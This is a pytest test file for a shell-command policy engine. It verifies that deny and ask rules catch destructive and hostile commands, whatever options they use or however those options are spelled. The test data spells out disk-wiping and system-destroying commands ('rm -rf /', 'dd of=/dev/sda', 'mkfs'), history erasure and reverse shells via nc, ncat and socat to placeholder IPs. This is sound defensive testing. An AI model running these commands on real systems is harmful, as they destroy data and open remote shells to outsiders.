"""Command rules match argv tokens, never substrings; deny/ask see through option spellings."""

from __future__ import annotations

import pytest

from safehold.policy.config import DEFAULT_COMMAND_RULES, CommandRule
from safehold.policy.decision import Verdict
from safehold.policy.shell import analyze
from safehold.policy.shell.rules import CompiledRules, compile_rules


def rules(*specs: tuple[str, str]) -> CompiledRules:
    return CompiledRules([CommandRule(pattern=p, decision=Verdict(d)) for p, d in specs])


def words(command: str) -> tuple:  # type: ignore[type-arg]
    result = analyze(command)
    assert len(result.commands) == 1, result
    return result.commands[0].words


def denied(compiled: CompiledRules, command: str) -> list[tuple[str, bool]]:
    return [(m.rule.pattern, m.certain) for m in compiled.strict_matches(words(command))]


def allowed(compiled: CompiledRules, command: str) -> str | None:
    rule = compiled.allow_match(words(command))
    return rule.pattern if rule else None


# -- allow: whole argv, token by token -------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status", "git status"),
        ("/usr/bin/git status", "git status"),
        ("git status --short", None),
        ("git", None),
        ("npm run test", "npm run test *"),
        ("npm run test -- --watch x", "npm run test *"),
        ("npm run testx", None),
        ("npm run build", None),
        ("ls -la src", "ls * src"),
        ("ls -la lib", None),
    ],
)
def test_allow_rules_match_the_whole_argv(command: str, expected: str | None) -> None:
    compiled = rules(("git status", "allow"), ("npm run test *", "allow"), ("ls * src", "allow"))
    assert allowed(compiled, command) == expected


def test_allow_rules_never_match_a_computed_word_except_with_a_trailing_star() -> None:
    compiled = rules(("cat README.md", "allow"), ("echo *", "allow"), ("cp * dst", "allow"))
    assert allowed(compiled, "cat $F") is None
    assert allowed(compiled, 'echo "$HOME" *.py') == "echo *"
    assert allowed(compiled, 'cp "$one" dst') == "cp * dst"
    assert allowed(compiled, "cp $split dst") is None  # may be several words


def test_allow_matching_is_not_a_substring_match() -> None:
    compiled = rules(("git", "allow"))
    assert allowed(compiled, "gitx") is None
    assert allowed(compiled, "git status") is None


# -- deny / ask: program + options (any order, any spelling) + operands in order -------


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm -R /",
        "rm --recursive --force /",
        "rm -rf -- /",
        "rm -rf //",
        "rm -rf /./",
        "rm -rf build /",
        "rm / -rf",
        "/bin/rm -rf /",
        "\\rm -rf /",
    ],
)
def test_deny_rules_see_through_option_spellings(command: str) -> None:
    assert ("rm -r /", True) in denied(rules(("rm -r /", "deny")), command)


@pytest.mark.parametrize("command", ["rm -f /", "rm -rf /tmp/x", "rm -rf ./build", "rmdir /"])
def test_deny_rules_do_not_fire_on_other_commands(command: str) -> None:
    assert denied(rules(("rm -r /", "deny")), command) == []


@pytest.mark.parametrize(
    "command", ["grep shutdown log", "echo shutdown", "git commit -m shutdown", "man shutdown"]
)
def test_a_program_rule_never_matches_an_argument(command: str) -> None:
    assert denied(rules(("shutdown", "deny")), command) == []


def test_a_computed_word_that_could_complete_a_deny_rule_is_uncertain() -> None:
    compiled = rules(("rm -r /", "deny"))
    assert denied(compiled, 'rm -rf "$dir"') == [("rm -r /", False)]
    assert denied(compiled, "rm $args") == [("rm -r /", False)]
    # One quoted word cannot supply both `-r` and `/`.
    assert denied(compiled, 'rm "$f"') == []


def test_globs_in_tokens() -> None:
    compiled = rules(("dd of=/dev/sd*", "deny"), ("mkfs.*", "deny"), ("socat exec:**", "deny"))
    assert denied(compiled, "dd if=/dev/zero of=/dev/sda bs=1M")
    assert not denied(compiled, "dd if=/dev/sda of=disk.img")
    assert denied(compiled, "mkfs.ext4 /dev/sdb1")
    assert denied(compiled, "socat tcp:1.2.3.4:9 exec:/bin/sh")
    assert not denied(compiled, "dd of=/dev/sda/../x")  # `*` never crosses `/`


def test_ask_rules_match_like_deny_rules() -> None:
    compiled = rules(("git push --force", "ask"))
    assert denied(compiled, "git push origin main --force") == [("git push --force", True)]
    assert denied(compiled, "git push origin main") == []


def test_rule_order_and_duplicates_do_not_change_matches() -> None:
    specs = [("rm -r /", "deny"), ("rm", "ask"), ("rm -r /", "deny")]
    forward = {p for p, _ in denied(rules(*specs), "rm -rf /")}
    backward = {p for p, _ in denied(rules(*reversed(specs)), "rm -rf /")}
    assert forward == backward == {"rm -r /", "rm"}


def test_compile_rules_is_cached_per_rule_tuple() -> None:
    one = compile_rules(DEFAULT_COMMAND_RULES)
    assert compile_rules(DEFAULT_COMMAND_RULES) is one


# -- the built-in rules ----------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -rf /*",
        "rm -rf ~",
        "rm -rf ~/",
        "rm -rf $HOME",
        "rm -rf ${HOME}/",
        "rm -rf /usr",
        "mkfs.ext4 /dev/sda1",
        "mkfs -t xfs /dev/nvme0n1",
        "dd if=/dev/zero of=/dev/sda",
        "dd of=/dev/nvme0n1 if=x",
        "shutdown -h now",
        "reboot",
        "poweroff",
        "halt -f",
        "systemctl poweroff",
        "init 0",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat --exec /bin/bash 1.2.3.4 9",
        "chmod -R 777 /",
        "chmod 777 -R /",
        "history -c",
        "kill -9 -1",
    ],
)
def test_builtin_deny_rules(command: str) -> None:
    hits = compile_rules(DEFAULT_COMMAND_RULES).strict_matches(words(command))
    assert any(m.certain and m.rule.decision is Verdict.DENY for m in hits), command


@pytest.mark.parametrize(
    "command",
    ["rm -rf build", "rm -rf ./node_modules", "chmod -R 755 src", "dd if=a of=b", "kill 1234"],
)
def test_builtin_rules_leave_ordinary_commands_alone(command: str) -> None:
    assert compile_rules(DEFAULT_COMMAND_RULES).strict_matches(words(command)) == []


@pytest.mark.parametrize(
    "command",
    [
        "systemctl start reboot.target",
        "systemctl isolate poweroff.target",
        "systemctl --no-block start halt.target",
        "dd if=/dev/zero of=/dev/disk/by-id/ata-x",
        "dd of=/dev/block/8:0 if=/dev/zero",
    ],
)
def test_issue_4_reboot_targets_and_disk_aliases_are_denied(command: str) -> None:
    # Each was ALLOW: `systemctl reboot` was denied but not the unit it starts, and
    # `/dev/disk*` stopped at the `/` of `/dev/disk/by-id/...`.
    hits = compile_rules(DEFAULT_COMMAND_RULES).strict_matches(words(command))
    assert any(m.certain and m.rule.decision is Verdict.DENY for m in hits), command


@pytest.mark.parametrize(
    "command", ["systemctl restart nginx", "systemctl list-units --type=target", "dd if=a of=b"]
)
def test_issue_4_ordinary_systemctl_and_dd_stay_allowed(command: str) -> None:
    assert compile_rules(DEFAULT_COMMAND_RULES).strict_matches(words(command)) == []
